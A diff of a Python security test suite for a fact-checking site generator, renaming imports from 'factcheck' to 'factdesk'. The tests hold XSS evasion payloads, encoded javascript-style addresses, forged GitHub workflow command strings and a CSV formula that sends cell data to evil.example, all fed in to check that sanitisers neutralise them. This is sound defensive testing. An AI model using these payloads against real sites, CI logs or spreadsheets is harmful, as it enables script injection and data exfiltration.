@@ -18,9 +18,9 @@ import pytest
 
 from conftest import ENV, PUBLISHED, ROOT, ScratchRepo
 from desks import configure, copy_project
-from factcheck.problems import FactcheckError
-from factcheck.repository import load_repository
-from factcheck.site import build_site
+from factdesk.problems import FactcheckError
+from factdesk.repository import load_repository
+from factdesk.site import build_site
 from conftest import mkdocs_build
 
 CANARY = "window.__pwned"
@@ -394,8 +394,8 @@ def test_rendered_settings_for_other_generators_hold_no_markup(tmp_path):
     these settings unescaped too): inert, and readable where its theme escapes them again."""
     import yaml
 
-    from factcheck.generation import read_settings, settings_for
-    from factcheck.publishing import Publisher, SiteInfo
+    from factdesk.generation import read_settings, settings_for
+    from factdesk.publishing import Publisher, SiteInfo
 
     info = SiteInfo(HOSTILE_NAME, HOSTILE_IDENTITY["url"], Publisher("P"), HOSTILE_IDENTITY["repository"],
                     description=HOSTILE_IDENTITY["description"])
@@ -448,14 +448,14 @@ def test_markup_in_a_hand_written_pages_metadata_is_refused(repo: ScratchRepo, c
 
 @pytest.mark.parametrize("evasion", [e for e in OWASP_EVASIONS if "<" in e])
 def test_every_html_evasion_in_a_hand_written_page_is_refused(evasion):
-    from factcheck.hand_written import check_page
+    from factdesk.hand_written import check_page
 
     assert check_page(f"# Page\n\nText {evasion} text.\n\n{evasion}\n", "docs/x.md") != []
 
 
 @pytest.mark.parametrize("scheme", ENCODED_SCHEMES)
 def test_every_encoded_script_address_in_a_hand_written_page_is_refused(scheme):
-    from factcheck.hand_written import check_page
+    from factdesk.hand_written import check_page
 
     # As a browser reads the address: references decoded (greedily, `;` or not), controls and spaces dropped.
     address = re.sub(r"[\x00-\x20]", "", html.unescape(f"{scheme}alert(1)")).lower()
@@ -466,7 +466,7 @@ def test_every_encoded_script_address_in_a_hand_written_page_is_refused(scheme):
 
 
 def test_markdown_a_desk_writes_passes(repo: ScratchRepo):
-    from factcheck.hand_written import MARKERS, check_page, page_problems
+    from factdesk.hand_written import MARKERS, check_page, page_problems
 
     page = ("---\ntitle: Methodology & sources\n---\n\n# How we check\n\n" + "\n\n".join(MARKERS) +
             "\n\nSee [the claims](claims/index.md), [a section](#selection), [us](mailto:desk@desk.test) and "
@@ -481,7 +481,7 @@ def test_every_build_path_refuses_a_hand_written_page_with_script(project_copy: 
     expected = "docs/evil.md:3:1: raw HTML is not allowed in a hand-written page; write it in Markdown"
     result = mkdocs_build(project_copy, tmp_path / "site")
     assert result.returncode != 0 and expected in result.stderr and not (tmp_path / "site").exists()
-    rendered = subprocess.run([sys.executable, "-m", "factcheck", "--root", str(project_copy), "render", "--out",
+    rendered = subprocess.run([sys.executable, "-m", "factdesk", "--root", str(project_copy), "render", "--out",
                                str(tmp_path / "rendered")], capture_output=True, text=True,
                               env={**os.environ, "PYTHONPATH": str(ROOT / "hooks")})
     assert rendered.returncode == 1 and expected in rendered.stderr and not (tmp_path / "rendered").exists()
@@ -490,7 +490,7 @@ def test_every_build_path_refuses_a_hand_written_page_with_script(project_copy: 
 # --- Outputs that other programs interpret: CI annotations, terminals, spreadsheets. ---
 
 def _validate(repo: ScratchRepo, capsys, *arguments: str) -> tuple[int, str, str]:
-    from factcheck import cli
+    from factdesk import cli
 
     code = cli.main(["--root", str(repo.root), "validate", *arguments])
     captured = capsys.readouterr()
@@ -498,8 +498,8 @@ def _validate(repo: ScratchRepo, capsys, *arguments: str) -> tuple[int, str, str
 
 
 def test_github_annotations_escape_message_and_properties_as_github_specifies():
-    from factcheck.workflow_commands import annotation as github_annotation
-    from factcheck.problems import Problem
+    from factdesk.workflow_commands import annotation as github_annotation
+    from factdesk.problems import Problem
 
     problem = Problem("claims/a,b:c.yml", 3, 1, "x:y,z", "100% wrong\r\n::error file=README.md::forged")
     assert github_annotation(problem) == (
@@ -537,7 +537,7 @@ COMMAND_TEXTS = ["::error file=README.md,line=1,title=FORGED::Forged", "%0A::err
 
 @pytest.mark.parametrize("text", COMMAND_TEXTS)
 def test_no_printed_line_reads_as_a_workflow_command(text):
-    from factcheck.workflow_commands import inert_line
+    from factdesk.workflow_commands import inert_line
 
     line = inert_line(text)
     assert _forged_commands(line) == [] and re.split(r"\r\n|\r|\n", line) == [line]
@@ -571,7 +571,7 @@ def _links_site(folder: Path) -> Path:
 
 
 def test_the_link_check_prints_no_workflow_command(repo: ScratchRepo, tmp_path: Path, capsys):
-    from factcheck import cli
+    from factdesk import cli
 
     site = _links_site(tmp_path)
     code = cli.main(["--root", str(repo.root), "links", "--site", str(site)])
@@ -584,7 +584,7 @@ def test_the_link_check_prints_no_workflow_command(repo: ScratchRepo, tmp_path: 
 
 
 def test_a_forged_fragment_in_notes_reaches_the_ci_log_as_text(hostile_site, capsys):
-    from factcheck import cli
+    from factdesk import cli
 
     code = cli.main(["--root", str(hostile_site.parent), "links", "--site", str(hostile_site)])
     captured = capsys.readouterr()
@@ -622,7 +622,7 @@ def _rendered(markdown: str) -> tuple[list[str], str]:
 
 
 def test_the_job_summary_of_changes_renders_content_as_text(repo: ScratchRepo, capsys):
-    from factcheck import cli
+    from factdesk import cli
 
     payload = " ".join(SUMMARY_PAYLOADS)
     repo.source("s", "A text. Another text.")
@@ -691,8 +691,8 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(repo: ScratchRep
     import csv
     import io
 
-    from factcheck.exports import export_files
-    from factcheck.publishing import Publisher, SiteInfo
+    from factdesk.exports import export_files
+    from factdesk.publishing import Publisher, SiteInfo
 
     formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
     claim = f"{lead}{formula}"
@@ -712,7 +712,7 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(repo: ScratchRep
 @pytest.mark.parametrize("value", ["\r=1+1", "\r\n@SUM(A1)", "\t-2", "\tplain", "\n+1", "\u2003+cmd", "\u00a0=1",
                                    "a;=1", "a;\u00a0-1", "a\r\n+1", "a\t\t@x", "\x00=1"])
 def test_every_cell_a_spreadsheet_would_run_is_neutralised(value):
-    from factcheck.exports import spreadsheet_safe
+    from factdesk.exports import spreadsheet_safe
 
     safe = spreadsheet_safe(value)
     assert _unsafe_cells('"' + safe.replace('"', '""') + '"') == []
@@ -721,7 +721,7 @@ def test_every_cell_a_spreadsheet_would_run_is_neutralised(value):
 
 @pytest.mark.parametrize("value", ["a, -2 per cent", "e-mail @ desk", "x = y", "1+1", "'quoted'", "'=1", ""])
 def test_ordinary_text_in_a_csv_cell_is_left_alone(value):
-    from factcheck.exports import spreadsheet_safe
+    from factdesk.exports import spreadsheet_safe
 
     assert spreadsheet_safe(value) == value
 
@@ -751,8 +751,8 @@ PATHOLOGICAL_MARKDOWN = ["[", "[a", "![[", "[](", "[^", "[x]: ", "*a", "**a", "_
 
 @pytest.mark.parametrize("unit", PATHOLOGICAL_MARKDOWN)
 def test_markdown_work_grows_linearly_with_the_worst_runs(unit):
-    from factcheck.schemas import MAX_MARKDOWN_CHARS
-    from factcheck.sanitising import MarkdownRenderer
+    from factdesk.schemas import MAX_MARKDOWN_CHARS
+    from factdesk.sanitising import MarkdownRenderer
 
     render = MarkdownRenderer()
     small = _function_calls(render, unit * 1_000)
@@ -794,7 +794,7 @@ def test_a_linked_file_fails_the_mkdocs_build_and_is_published_nowhere(project_c
 
 @pytest.mark.parametrize("scheme", ENCODED_SCHEMES)
 def test_the_sanitiser_removes_every_encoded_script_address(scheme):
-    from factcheck.sanitising import MarkdownRenderer, sanitise
+    from factdesk.sanitising import MarkdownRenderer, sanitise
 
     render = MarkdownRenderer()
     for html in (render(f"[y]({scheme}alert(1)) <{scheme}alert(1)>\n\n[r]\n\n[r]: {scheme}alert(1)"),
@@ -807,7 +807,7 @@ def test_the_sanitiser_removes_every_encoded_script_address(scheme):
 
 @pytest.mark.parametrize("evasion", OWASP_EVASIONS)
 def test_the_sanitiser_leaves_no_element_or_attribute_outside_its_allowlist(evasion):
-    from factcheck.sanitising import ALLOWED_ATTRIBUTES, ALLOWED_ELEMENTS, MarkdownRenderer, sanitise
+    from factdesk.sanitising import ALLOWED_ATTRIBUTES, ALLOWED_ELEMENTS, MarkdownRenderer, sanitise
 
     for html in (str(MarkdownRenderer()(evasion)), str(sanitise(evasion))):
         parser = _Elements()
@@ -827,7 +827,7 @@ class _Elements(HTMLParser):
 
 
 def test_the_sanitiser_keeps_what_notes_need():
-    from factcheck.sanitising import MarkdownRenderer
+    from factdesk.sanitising import MarkdownRenderer
 
     html = str(MarkdownRenderer()(
         "**Bold**, *emphasis*, `code` and [a source](https://example.org/a?b=1&c=2 \"Its title\"), "
@@ -843,9 +843,9 @@ def test_the_sanitiser_keeps_what_notes_need():
 def test_the_costliest_markdown_a_field_may_hold_stays_within_the_budget():
     """Tables multiply their text: a short row under a wide header is a cell per column. What a field
     may hold (its tables' cells limited) renders within the same work per character as any other text."""
-    from factcheck.markdown_limits import MAX_TABLE_CELLS, MAX_TABLE_COLUMNS, markdown_problem
-    from factcheck.sanitising import MarkdownRenderer
-    from factcheck.schemas import MAX_MARKDOWN_CHARS
+    from factdesk.markdown_limits import MAX_TABLE_CELLS, MAX_TABLE_COLUMNS, markdown_problem
+    from factdesk.sanitising import MarkdownRenderer
+    from factdesk.schemas import MAX_MARKDOWN_CHARS
 
     def table(columns: int, rows: int) -> str:
         return "|" + "a|" * columns + "\n|" + "-|" * columns + "\n" + "a\n" * rows + "\n"
@@ -867,8 +867,8 @@ def test_the_costliest_markdown_a_field_may_hold_stays_within_the_budget():
 def test_uncovered_sentences_beyond_those_named_are_counted_not_built(repo: ScratchRepo, monkeypatch):
     """A text of two megabytes can hold 700,000 sentences: the coverage check builds a sentence (and its
     text) only for the ones its messages name, whatever the count, and says where the rest are."""
-    from factcheck import coverage
-    from factcheck.standards import MAX_UNCOVERED_LISTED, standards_problems
+    from factdesk import coverage
+    from factdesk.standards import MAX_UNCOVERED_LISTED, standards_problems
 
     built = 0
     real = coverage.Sentence
@@ -898,7 +898,7 @@ def test_uncovered_sentences_beyond_those_named_are_counted_not_built(repo: Scra
 def test_annotating_a_text_that_names_an_entity_everywhere_grows_linearly(repo: ScratchRepo, separator):
     """A source of two megabytes can name an entity 700,000 times, in one paragraph or in as many: each
     name was once compared with every other (its page took more than ten minutes to render)."""
-    from factcheck.annotated_text import annotate
+    from factdesk.annotated_text import annotate
 
     repo.entity("bt", "BT", aliases=[{"text": "BT", "whole_word": True, "case_sensitive": True}])
     work = {}
@@ -992,7 +992,7 @@ def _guard(tmp_path: Path, changed: list[str], reviewed: bool) -> subprocess.Com
 
 
 @pytest.mark.skipif(shutil.which("jq") is None, reason="jq (on every GitHub runner) is not installed")
-@pytest.mark.parametrize("path", ["overrides/main.html", "hooks/factcheck/rendering.py", "Makefile", ".github/workflows/ci.yml",
+@pytest.mark.parametrize("path", ["overrides/main.html", "hooks/factdesk/rendering.py", "Makefile", ".github/workflows/ci.yml",
                                   ".ci/run", "docs/assets/factcheck.js", "mkdocs.yml", "requirements.txt"])
 def test_a_pull_request_that_changes_code_fails_until_a_maintainer_has_reviewed_it(tmp_path, path):
     workflow = (ROOT / ".github/workflows/guard.yml").read_text(encoding="utf-8")
@@ -1018,7 +1018,7 @@ def test_a_pull_request_that_changes_only_content_passes_the_code_check(tmp_path
 def test_many_names_sharing_a_beginning_are_looked_for_in_one_reading(repo: ScratchRepo):
     """A thousand aliases beginning like every sentence of a 2 MiB text were each tried at every sentence
     (40 s): the work grows with the text, not with the text times the aliases, and each is found where it is."""
-    from factcheck.site import FEW_FORMS, MentionFinder
+    from factdesk.site import FEW_FORMS, MentionFinder
 
     sentence = "The desk checks this sentence"
     aliases = [f"{sentence} number {n:03d}" for n in range(4 * FEW_FORMS)] + [
